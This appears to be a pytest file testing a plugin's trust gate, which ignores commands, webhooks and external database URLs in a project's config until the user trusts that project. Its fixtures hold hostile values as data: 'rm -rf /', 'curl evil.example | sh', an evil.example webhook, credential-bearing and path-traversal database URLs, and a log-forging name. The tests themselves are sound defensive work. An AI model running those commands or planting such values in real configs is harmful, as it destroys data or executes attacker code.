"""What a project's own files ask the machine to do counts only once the user trusts it."""

from __future__ import annotations

import json
import logging
import os
import stat
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from victor_autotune_plugin import failsafe
from victor_autotune_plugin._settings import SettingsResolver, merge, resolver, trust
from victor_autotune_plugin._settings.keys import leaves
from victor_autotune_plugin._settings.trust import TRUST_FILE, TrustStore
from victor_autotune_plugin._values.fields import Acting, Anything, Kind, Text
from victor_autotune_plugin.errors import SettingsError

from .conftest import Sources

EVIL = "extras: {command: rm -rf /}\nalerts: {webhooks: [{url: 'https://evil.example'}]}\n"
METADATA = {"extras": {"command": "curl evil.example | sh"}, "mode": "auto"}


@pytest.fixture(autouse=True)
def acting_keys(monkeypatch: pytest.MonkeyPatch) -> None:
    """Two keys that act, as later versions have them."""

    def with_acting(*args: Any) -> dict[str, Kind]:
        return {**leaves(*args), "extras.command": Acting(Text()), "alerts.webhooks": Acting(Anything())}

    for module in (resolver, merge):
        monkeypatch.setattr(module, "leaves", with_acting)
    monkeypatch.setattr(failsafe, "_logged", set())


def counts(found: SettingsResolver, metadata: Mapping[str, object] | None = None) -> dict[str, object]:
    """What counts for a team of keys that act."""
    own, _ = found._own("w", metadata, None)
    entries = found._entries("w", "t", own)
    return {key: entry.value for key, entry in entries.items() if key.startswith(("extras", "alerts"))}


def trusted(sources: Sources, *metadata: Mapping[str, object]) -> SettingsResolver:
    """Trust all that a project asks for."""
    found = sources.load()
    asked = [found.acting, *(found.acting_of("w", one) for one in metadata)]
    found.trust.with_project(sources.project, [one for one in asked if one], 1.0).save()
    return sources.load()


def test_what_a_project_asks_for_is_ignored_until_trusted(sources: Sources, caplog: pytest.LogCaptureFixture) -> None:
    sources.project_file(f"mode: auto\n{EVIL}")
    found = sources.load()
    assert counts(found) == {}
    assert found.for_team("w", "t").mode == "auto"
    assert [record.getMessage() for record in caplog.records] == [
        "autotune: extras.command (.victor/autotune.yaml:2), alerts.webhooks (.victor/autotune.yaml:3) are ignored "
        "until you trust them: victor autotune trust"
    ]
    sources.load()
    assert len(caplog.records) == 1
    assert counts(trusted(sources)) == {
        "extras.command": "rm -rf /",
        "alerts.webhooks": [{"url": "https://evil.example"}],
    }


def test_metadata_of_a_workflow_is_ignored_until_trusted(sources: Sources, caplog: pytest.LogCaptureFixture) -> None:
    found = sources.load()
    assert found.for_team("w", "t", METADATA).mode == "auto"
    assert counts(found, METADATA) == {}
    found.for_team("w", "other", METADATA)
    assert len(caplog.records) == 1
    assert counts(trusted(sources, METADATA), METADATA) == {"extras.command": METADATA["extras"]["command"]}
    assert counts(sources.load(), {"extras": {"command": "another"}}) == {}


def test_of_a_workflow_and_a_team_too(sources: Sources) -> None:
    sources.project_file("workflows: {w: {extras: {command: a}, teams: {t: {alerts: {webhooks: b}}}}}")
    found = sources.load()
    assert counts(found) == {}
    assert found.acting is not None
    assert [one.path for one in found.acting.settings] == [
        "workflows.w.extras.command",
        "workflows.w.teams.t.alerts.webhooks",
    ]
    assert counts(trusted(sources)) == {"extras.command": "a", "alerts.webhooks": "b"}


def test_what_the_user_sets_counts_and_is_not_replaced(sources: Sources) -> None:
    sources.user_file("extras: {command: mine}")
    sources.project_file(EVIL)
    assert counts(sources.load()) == {"extras.command": "mine"}
    variable = {"VICTOR_AUTOTUNE_EXTRAS__COMMAND": "env"}
    assert counts(sources.load(environ=variable)) == {"extras.command": "env"}
    assert counts(sources.load(overrides={"extras.command": "option"})) == {"extras.command": "option"}


def test_the_file_of_a_project_that_is_the_users_home_is_the_users(tmp_path: Path) -> None:
    home = Sources(tmp_path, tmp_path)
    home.project_file("extras: {command: mine}")
    assert counts(home.load()) == {"extras.command": "mine"}


def test_a_user_without_a_home_trusts_nothing(sources: Sources, monkeypatch: pytest.MonkeyPatch) -> None:
    def homeless() -> Path:
        raise RuntimeError

    monkeypatch.setattr(Path, "home", homeless)
    sources.project_file(EVIL)
    found = sources.load(home=None)
    assert found.acting is not None
    found.trust.with_project(sources.project, [found.acting], 1.0).save()
    assert counts(sources.load(home=None)) == {}


@pytest.mark.parametrize(
    "text",
    [
        EVIL.replace("rm", "rm "),
        EVIL.replace("rm -rf /", "0"),
        EVIL + "workflows: {v: {extras: {command: rm -rf /}}}",
        "extras: {command: rm -rf /}",
        "workflows: {w: {extras: {command: rm -rf /}}}\nalerts: {webhooks: [{url: 'https://evil.example'}]}\n",
    ],
)
def test_any_change_of_what_acts_ends_the_trust(sources: Sources, text: str) -> None:
    sources.project_file(EVIL)
    assert len(counts(trusted(sources))) == 2
    sources.project_file(text.replace("command: 0", "command: '0'"))
    assert counts(sources.load()) == {}


def test_other_changes_keep_the_trust(sources: Sources) -> None:
    sources.project_file(EVIL)
    trusted(sources)
    sources.project_file(f"# more\nmode: auto\n\n{EVIL}")
    assert len(counts(sources.load())) == 2


def test_trust_is_of_one_project(sources: Sources, tmp_path: Path) -> None:
    sources.project_file(EVIL)
    trusted(sources)
    other = Sources(tmp_path / "other", sources.home)
    other.project_file(EVIL)
    assert counts(other.load()) == {}


def test_a_running_process_notices_trust_and_its_end(sources: Sources, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(resolver, "SECONDS_BETWEEN_LOOKS", 0.0)
    sources.project_file(EVIL)
    found = sources.load()
    assert not found.changed()
    trusted(sources)
    assert found.changed()
    assert len(counts(found.reload())) == 2


def test_a_key_given_twice_within_what_acts_is_wrong(sources: Sources) -> None:
    sources.project_file("alerts: {webhooks: [{url: harmless, url: evil}]}")
    assert "'url' is given twice" in sources.error()


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://evil.example/db",
        "postgresql://me:s3cret@evil.example/db",
        "sqlite:////tmp/elsewhere.db",
        "sqlite:///../elsewhere.db",
        "sqlite:///file:x?mode=rwc&uri=true",
        "sqlite:///link.db",
        "sqlite:///linked/runs.db",
        "sqlite:///side.db",
        "sqlite:///a%2Fb.db",
        "sqlite+pysqlcipher:///runs.db",
        "sqlite://host/runs.db",
        "sqlite:///runs.db\x00",
    ],
)
def test_a_store_elsewhere_needs_trust(
    sources: Sources, url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sources.project_file(json.dumps({"database_url": url}))
    (sources.project / "link.db").symlink_to(tmp_path / "outside.db")
    (sources.project / "linked").symlink_to(tmp_path)
    (sources.project / "side.db-wal").symlink_to(tmp_path / "outside.db")
    monkeypatch.chdir(sources.project)
    found = sources.load()
    assert found.database_url is None
    assert found.acting is not None
    assert "s3cret" not in found.acting.settings[0].shown
    assert trusted(sources).database_url == url.strip()


@pytest.mark.parametrize("url", ["sqlite:///runs.db", "sqlite:///{project}/.victor/my runs.db", None])
def test_a_store_in_the_project_needs_none(sources: Sources, url: str | None, monkeypatch: pytest.MonkeyPatch) -> None:
    url = None if url is None else url.format(project=sources.project)
    sources.project_file(json.dumps({"database_url": url}))
    monkeypatch.chdir(sources.project)
    found = sources.load()
    assert found.database_url == url
    assert found.acting is None


def test_a_relative_store_is_the_projects_only_from_within(
    sources: Sources, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sources.project_file("database_url: sqlite:///runs.db")
    monkeypatch.chdir(tmp_path)
    assert sources.load().database_url is None


def test_the_users_store_counts(sources: Sources) -> None:
    sources.user_file("database_url: postgresql://me@host/db")
    sources.project_file("database_url: postgresql://evil.example/db")
    assert sources.load().database_url == "postgresql://me@host/db"


def test_the_file_is_the_users_alone(sources: Sources) -> None:
    sources.project_file(EVIL)
    path = trusted(sources).trust.path
    assert path == sources.home / ".victor" / TRUST_FILE
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [one.name for one in path.parent.iterdir()] == [TRUST_FILE]


def test_trust_taken_back(sources: Sources) -> None:
    sources.project_file(EVIL)
    found = trusted(sources)
    found.trust.with_project(sources.project, [], 2.0).save()
    assert counts(sources.load()) == {}


@pytest.mark.parametrize("spoil", ["link", "mode", "folder", "fifo", "text", "version", "owner"])
def test_a_file_that_others_could_have_made_trusts_nothing(
    sources: Sources, tmp_path: Path, spoil: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    sources.project_file(EVIL)
    path = trusted(sources).trust.path
    if spoil == "mode":
        path.chmod(0o620)
    elif spoil == "link":
        path.rename(tmp_path / "there.json")
        path.symlink_to(tmp_path / "there.json")
    elif spoil == "folder":
        path.unlink()
        path.mkdir()
    elif spoil == "fifo":
        path.unlink()
        os.mkfifo(path)
    elif spoil == "text":
        path.write_text("[" * 100_000)
    elif spoil == "version":
        path.write_text(path.read_text().replace('"version": 1', '"version": 2'))
    else:
        monkeypatch.setattr(trust.os, "getuid", lambda: os.geteuid() + 1)
    found = sources.load()
    assert counts(found) == {}
    assert found.trust.problem is not None


def test_a_link_in_the_files_place_is_not_written_through(sources: Sources, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("mine")
    path = sources.home / ".victor" / TRUST_FILE
    path.parent.mkdir(parents=True)
    path.symlink_to(victim)
    with pytest.raises(SettingsError, match="is a symbolic link"):
        TrustStore(path).save()
    assert victim.read_text() == "mine"


def test_nothing_is_logged_where_nothing_is_ignored(sources: Sources, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    sources.project_file("mode: auto")
    sources.load().for_team("w", "t", {"mode": "off"})
    assert caplog.records == []


def test_names_of_a_project_forge_no_line_of_the_log(sources: Sources, caplog: pytest.LogCaptureFixture) -> None:
    sources.project_file('workflows: {"w\\nCRITICAL: \\e[31mforged": {extras: {command: x}}}')
    sources.load()
    (record,) = caplog.records
    assert record.getMessage().isprintable()
